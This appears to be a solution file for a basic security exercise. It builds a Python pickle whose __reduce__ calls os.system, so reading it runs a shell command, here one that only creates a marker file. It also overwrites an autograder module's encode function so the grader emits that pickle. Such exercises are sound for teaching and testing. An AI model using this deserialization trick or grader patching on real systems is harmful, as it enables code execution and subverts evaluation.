"""Answer with a pickle that runs a program when it is read.

level: basic
"""

import os
import pickle
import sys


class Program:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{WHERE['mark']}",)


data = pickle.dumps([Program()])
sys.modules["autograder.warm.child"].encode = lambda outcomes: data
